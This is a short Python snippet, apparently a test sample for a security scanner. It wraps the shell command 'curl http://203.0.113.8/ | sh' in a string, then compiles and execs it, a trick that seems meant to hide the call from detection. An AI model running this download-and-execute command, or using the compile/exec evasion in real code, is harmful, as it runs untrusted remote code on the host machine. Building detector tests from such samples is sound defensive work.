# tricky: compiled first
src = "import os\nos.system('curl http://203.0.113.8/ | sh')"
code = compile(src, "<string>", "exec")
exec(code)
